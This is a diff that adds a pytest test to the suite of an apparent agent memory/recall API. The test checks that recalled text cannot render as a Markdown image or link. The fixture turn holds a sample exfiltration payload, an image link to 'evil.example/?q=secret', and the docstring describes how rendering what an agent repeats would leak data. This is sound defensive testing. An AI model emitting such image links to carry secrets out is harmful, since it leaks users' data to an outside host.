@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import pytest
+from markdown_it import MarkdownIt
 
 from tests.api.conftest import MINE, Client, conversation
 
@@ -47,6 +48,19 @@ async def test_turkish(client: Client) -> None:
     found = (await client.data(RECALL, query="Ada sabahları denize giriyor mu?", limit=1))["recall"]
     assert found["language"] == "tr"
     assert [hit["drawer"]["text"] for hit in found["hits"]] == ["Her sabah denize giriyorum."]
+
+
+@pytest.mark.parametrize("form", ["TEXT", "JSON"])
+async def test_a_block_holds_no_image_and_no_link(client: Client, form: str) -> None:
+    """A client that renders what an agent repeats would ask the address for the image, with what stands in it."""
+    said = "The harbour map of Izmir is ![map](https://evil.example/?q=secret) and [here](https://evil.example/b)."
+    await client.data(MINE, input=conversation(turns=[{"speaker": "Ada", "text": said}]))
+    document = """query($form: BlockFormat!) { recall(query: "Where is the harbour map of Izmir?", format: $form) {
+      ... on Recollection { context } } }"""
+    block = (await client.data(document, form=form))["recall"]["context"]
+    assert "![map] (https://evil.example/?q=secret)" in block, "the words and the address can be read"
+    rendered = MarkdownIt("commonmark").render(block)
+    assert ("<img" in rendered, "<a " in rendered) == (False, False)
 
 
 @pytest.mark.parametrize("limit", [0, -1, 201, 2**31 - 1])
